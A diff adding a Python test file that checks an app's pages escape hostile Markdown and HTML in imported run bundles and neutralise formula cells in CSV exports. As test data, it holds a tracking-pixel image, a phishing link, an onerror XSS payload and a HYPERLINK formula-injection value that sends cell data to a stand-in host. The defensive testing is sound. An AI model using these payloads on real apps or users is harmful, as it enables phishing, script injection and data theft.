@@ -1,0 +1,144 @@
+"""Outside text is text (issue 42, item 3): a bundle whose host name, group, data set name,
+error, stderr and warnings hold Markdown and HTML is imported, and every page shows them
+as plain characters: no image, link, tag or directive reaches the page, and no chart's
+title or hover label carries live HTML. engine.plain is the one escaping helper."""
+from __future__ import annotations
+
+import io
+import json
+import re
+
+import pytest
+from markdown_it import MarkdownIt
+
+from engine import bundle, plain
+from engine.store import Store
+from tests.test_pages import app, finished_pair, no_errors
+
+# An image that logs the viewer's visit, a phishing link, raw HTML, a Streamlit directive.
+HOSTILE = ('![](http://HOST/pixel.png) [Session expired: sign in again](http://HOST/phish) '
+           '<img src=x onerror=alert(1)> <a href="http://HOST/a">click</a> <b>bold</b> '
+           ':red[red] **strong** `code` $x^2$ www.HOST.example')
+PAGES = ("views/train/train.py", "views/runs/runs.py", "views/replay.py", "views/hardware.py",
+         "views/autopilot.py")
+# Proto fields that Streamlit renders as Markdown (bodies of markdown/caption/alerts/toasts,
+# labels of expanders, metrics, tabs and widgets, help tooltips).
+MARKDOWN_FIELDS = ("body", "label", "help", "caption", "text")
+PLAIN_ELEMENTS = ("text", "code")  # st.text, st.code: shown as typed
+
+
+def _walk(node):
+    yield node
+    for child in getattr(node, "children", {}).values():
+        yield from _walk(child)
+
+
+def markdown_strings(at) -> list[str]:
+    out = []
+    for root in (at.main, at.sidebar):
+        for node in _walk(root):
+            proto = getattr(node, "proto", None)
+            if proto is None or getattr(node, "type", None) in PLAIN_ELEMENTS:
+                continue
+            for f in MARKDOWN_FIELDS:
+                if f in {d.name for d in proto.DESCRIPTOR.fields}:
+                    v = getattr(proto, f)
+                    if isinstance(v, str) and v:
+                        out.append(v)
+    return out
+
+
+def chart_strings(at) -> list[str]:
+    out = []
+
+    def strings(x):
+        if isinstance(x, str):
+            out.append(x)
+        elif isinstance(x, dict):
+            for v in x.values():
+                strings(v)
+        elif isinstance(x, list):
+            for v in x:
+                strings(v)
+
+    for el in at.get("plotly_chart"):
+        strings(json.loads(el.proto.spec))
+    return out
+
+
+_MD = MarkdownIt("commonmark")
+
+
+def live_markup(md_text: str) -> list[str]:
+    """What of `md_text` a Markdown renderer would turn into an image, a link or a tag."""
+    rendered = _MD.render(md_text)
+    found = re.findall(r"<(img|a|b|script|iframe)\b[^>]*>", rendered, re.I)
+    if re.search(r"(?<!\\)://HOST|(?<![\\/])www\.HOST", md_text):  # GFM autolinks a bare URL
+        found.append("autolink")
+    if re.search(r"(?<!\\):red\[", md_text):
+        found.append("directive")
+    return found
+
+
+def hostile_store(store: Store, tmp_path) -> list[int]:
+    """A pair exported from another store with hostile text, imported into `store`."""
+    other = Store(tmp_path / "other" / "runs.sqlite")
+    b, r = finished_pair(other)
+    for rid in (b, r):
+        run = other.get_run(rid)
+        env = {**(run["environment"] or {}), "hostname": HOSTILE, "cpu_model": HOSTILE}
+        summary = {**run["summary"], "warnings": [HOSTILE]}
+        config = {**run["config"], "dataset": HOSTILE}  # a data set this machine lacks: its name is text
+        other.update_run(rid, environment=env, group_id=HOSTILE, summary=summary, stderr_tail=HOSTILE,
+                         config=config)
+    other.update_run(r, status="cancelled", error=HOSTILE)
+    buf = io.BytesIO()
+    bundle.export_runs(other, [b, r], buf)
+    other.close()
+    pairs = bundle.import_bundle(store, io.BytesIO(buf.getvalue()), name=f"{HOSTILE}.zip")
+    return [new for _old, new in pairs]
+
+
+def test_md_escapes_every_markup_and_reads_the_same():
+    rendered = _MD.render(plain.md(HOSTILE))
+    assert not re.findall(r"<(img|a|b|em|strong|code)\b", rendered)
+    # The text reads the same: only the escapes' backslashes are gone.
+    assert "![](http://HOST/pixel.png)" in rendered and "&lt;img src=x onerror=alert(1)&gt;" in rendered
+    assert live_markup(plain.md(HOSTILE)) == []
+    assert plain.md("a\nb\u202e") == "a b"  # one line, no bidi override
+    assert plain.md(None) == ""
+    assert plain.md_block("x*\ny_") == "x\\*  \ny\\_"
+
+
+def test_html_escapes_plotly_markup():
+    assert plain.html('<a href="x">b</a> & <br>') == "&lt;a href=&quot;x&quot;&gt;b&lt;/a&gt; &amp; &lt;br&gt;"
+
+
+@pytest.mark.page
+@pytest.mark.parametrize("page", PAGES)
+def test_every_page_shows_a_hostile_bundle_as_plain_text(store, tmp_path, page):
+    ids = hostile_store(store, tmp_path)
+    if page == "views/hardware.py":  # this machine's probe, as if its host name were hostile too
+        from tests.test_hardware_page import cache, facts
+
+        cache(tmp_path, {**facts(), "hostname": HOSTILE, "errors": [HOSTILE]})
+    assert ids and store.get_run(ids[0])["environment"]["hostname"] == HOSTILE
+    at = app(page)
+    no_errors(at)
+    if page in ("views/runs/runs.py", "views/replay.py"):  # the runs are there, not left out
+        assert HOSTILE in str(at.dataframe[0].value.to_dict()) if page.endswith("runs.py") else any(
+            "HOST" in s for s in markdown_strings(at))
+    bad = {s: live_markup(s) for s in markdown_strings(at) if live_markup(s)}
+    assert not bad, bad
+    charts = [s for s in chart_strings(at) if re.search(r"<(img|a|b)\b|HOST/", s, re.I) and "HOST" in s]
+    assert not [s for s in charts if re.search(r"<(img|a|b)\b", s, re.I)], charts
+
+
+def test_csv_export_cells_cannot_start_a_formula():
+    import pandas as pd
+
+    df = pd.DataFrame({"id": [1, 2], "error": ['=HYPERLINK("http://HOST/x?"&A1,"open")', "plain -1"],
+                       "loss": [-1.5, 2.0]})
+    out = plain.csv_frame(df)
+    assert out["error"].tolist() == ['\'=HYPERLINK("http://HOST/x?"&A1,"open")', "plain -1"]
+    assert out["loss"].tolist() == [-1.5, 2.0] and df["error"][0].startswith("=")  # numbers kept, input untouched
